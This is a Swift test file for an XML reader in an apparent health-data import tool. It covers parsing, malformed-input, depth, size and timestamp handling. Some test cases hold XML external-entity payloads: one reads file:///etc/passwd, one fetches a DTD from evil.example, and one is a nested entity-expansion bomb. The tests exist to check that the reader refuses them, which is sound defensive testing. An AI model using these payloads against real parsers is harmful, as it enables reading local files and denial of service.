import TestSupport
import Testing

@testable import HealthImport
@testable import ImportKit

/// What the reader makes of a document: `<a>`, `text`, `</a>`, and what stopped it.
private func steps(_ text: String) throws -> [String] { try steps(Array(text.utf8)) }

private func steps(_ bytes: [UInt8]) throws -> [String] {
    var reader = try MarkupReader(MemoryBlocks(bytes), path: "a.xml")
    var steps: [String] = []
    while true {
        switch try reader.next() {
        case .start:
            let names = reader.attributes.map { String(decoding: $0.name.buffer, as: UTF8.self) }
            let tag = ([String(decoding: reader.name.buffer, as: UTF8.self)] + names).joined(separator: " ")
            steps.append("<\(tag)>")
        case .end: steps.append("</\(String(decoding: reader.name.buffer, as: UTF8.self))>")
        case .text: steps.append(AttributeText.decode(reader.text.buffer))
        case .finished: return steps + (reader.problem.map { ["! \($0)"] } ?? [])
        }
    }
}

@Suite struct `Markup` {
    @Test func `is stepped through, with names without their prefix`() throws {
        #expect(
            try steps("<?xml version=\"1.0\"?><a x='1'>t<ns3:b/><!-- <c> -->&lt;</a>") == [
                "<a x>", "t", "<b>", "</b>", "<", "</a>",
            ])
    }

    @Test func `may begin with a mark and blanks`() throws {
        #expect(try steps([0xEF, 0xBB, 0xBF] + Array("\n  <?xml version=\"1.0\"?>\n<a/>\n".utf8)) == ["<a>", "</a>"])
    }

    @Test func `may hold its text in brackets`() throws {
        #expect(try steps("<a><![CDATA[1 <b> ]] 2]]></a>") == ["<a>", "1 <b> ]] 2", "</a>"])
    }

    @Test func `has no entities but the five`() throws {
        let text = "<!DOCTYPE a SYSTEM \"file:///etc/passwd\" [<!ELEMENT a ANY>]><a>&l1;&x;&amp;&#65;</a>"
        #expect(try steps(text) == ["<a>", "&l1;&x;&A", "</a>"])
    }

    @Test(arguments: [
        "<!DOCTYPE a [<!ENTITY l0 \"ha\"><!ENTITY l1 \"&l0;&l0;&l0;&l0;\">]>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE a [<!ENTITY % p PUBLIC \"x\" \"http://evil.example/x.dtd\"> %p;]>",
        "<!DOCTYPE a [<!-- ' --><!ELEMENT a ANY>\n  <!ENTITY x \"y\"><!-- ' -->]>",
        "<!DOCTYPE a [<<!ENTITY x \"y\">]>",
    ])
    func `that declares an entity is refused`(_ type: String) {
        #expect(
            throws: ImportError.refused(path: "a.xml", reason: "its document type declares entities, as no app does")
        ) { try steps("<?xml version=\"1.0\"?>\(type)<a>&x;</a>") }
    }

    @Test(arguments: [
        "<a>", "<a><b></a>", "<a></b>", "<a", "<a b", "<a b='", "<a b=1/>", "<a/><a/>", "", "no markup", "<a><!-- ",
        "<!DOCTYPE a [", "<a>t",
    ])
    func `that is not whole says so`(_ text: String) throws {
        #expect(try steps(text).last?.hasPrefix("! ") == true)
    }

    @Test func `nested too deep is not followed`() async {
        await #expect(processExitsWith: .success) {
            try await MemoryCeiling.hold {
                let deep = String(repeating: "<a>", count: 100_000)
                let steps = try steps(deep)
                #expect(steps.count == MarkupReader.deepest + 1)
                #expect(steps.last == "! its elements are nested more than 32 deep")
            }
        }
    }

    @Test func `with an endless attribute is not followed`() async {
        await #expect(processExitsWith: .success) {
            try await MemoryCeiling.hold {
                let long = "<a><b c='" + String(repeating: "x", count: 10 << 20) + "'/></a>"
                let steps = try steps(long)
                #expect(steps == ["<a>", "! an element in it is longer than 1 MB"])
            }
        }
    }

    @Test func `with too many or too long attributes is read without them`() throws {
        let many = (0..<100).map { " a\($0)='1'" }.joined()
        let long = String(repeating: "x", count: 100_000)
        #expect(try steps("<a><b\(many)/><c d='\(long)' e='1'/></a>") == ["<a>", "<b>", "</b>", "<c>", "</c>", "</a>"])
    }

    @Test func `with an endless comment or text is passed over`() async {
        await #expect(processExitsWith: .success) {
            try await MemoryCeiling.hold {
                let long = String(repeating: "x - ", count: 1 << 20)
                let steps = try steps("<a><!--\(long)--><b/>\(long)</a>")
                #expect(steps.prefix(3) == ["<a>", "<b>", "</b>"])
                #expect(steps.last == "</a>")
            }
        }
    }

    @Test(arguments: [
        ([UInt8]([0xFF, 0xFE, 0x3C, 0x00, 0x67, 0x00]), "UTF-16"),
        (Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><gpx/>".utf8), "ISO-8859-1"),
    ])
    func `in another encoding is refused with a sentence`(_ bytes: [UInt8], _ encoding: String) {
        #expect(throws: ImportError.refused(path: "a.xml", reason: "it is in \(encoding); save it as UTF-8")) {
            _ = try steps(bytes)
        }
    }

    @Test func `is told by its first element`() {
        #expect(RootElement.name(of: Array("\n<?xml version='1.0'?><!-- x --><g:gpx a='1'><trk>".utf8)) == "gpx")
        #expect(RootElement.name(of: Array("<TrainingCenterDatabase>".utf8)) == "TrainingCenterDatabase")
        #expect(RootElement.name(of: Array("{\"a\": 1}".utf8)) == nil)
        let wide: [UInt8] = Array("<?xml version=\"1.0\"?><gpx>".utf8).flatMap { [$0, 0] as [UInt8] }
        #expect(RootElement.name(of: [0xFF, 0xFE] + wide) == "gpx")
    }

    @Test func `can be cut and changed anywhere`() throws {
        let text = "<?xml version='1.0'?><!DOCTYPE a><a b=\"1\" c='2'>&amp;<d><![CDATA[x]]></d><!-- - --><e/></a>"
        let bytes = Array(text.utf8)
        for count in 0..<bytes.count {
            #expect(try steps(Array(bytes.prefix(count))).last?.hasPrefix("! ") == true, "\(count) bytes")
        }
        var generator = SeededGenerator(seed: 9)
        for _ in 0..<500 {
            var changed = bytes
            for _ in 0..<Int.random(in: 1...4, using: &generator) {
                changed[Int.random(in: 22..<bytes.count, using: &generator)] =
                    Array("<>/!-[]\"'= a&;".utf8).randomElement(using: &generator) ?? 0
            }
            #expect(try steps(changed).count < 50)
        }
    }

    @Test(arguments: [
        ("2024-04-22T21:25:15Z", 1_713_821_115_000), ("2024-04-22T21:25:15.250Z", 1_713_821_115_250),
        ("2024-04-22T23:25:15+02:00", 1_713_821_115_000), ("2024-04-22T16:25:15.5-0500", 1_713_821_115_500),
        ("2024-04-22T21:25:15", 1_713_821_115_000), ("2024-04-22 21:25:15+00", 1_713_821_115_000),
        ("1901-12-13T20:45:52Z", -2_147_483_648_000),
    ])
    func `has times in many forms`(_ text: String, _ milliseconds: Int64) {
        #expect(slice(text) { InstantText.milliseconds($0) } == milliseconds)
    }

    @Test(arguments: [
        "", "2024-04-22", "2024-02-30T10:00:00Z", "2024-04-22T25:00:00Z", "2024-04-22T10:00:00X", "22.04.2024 10:00:00",
        "2024-04-22T10:00:00.Z", "2024-04-22T10:00:00+99:00", "2024-04-22T10:00:00Zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
    ])
    func `has no time in other forms`(_ text: String) {
        #expect(slice(text) { InstantText.milliseconds($0) } == nil)
    }
}
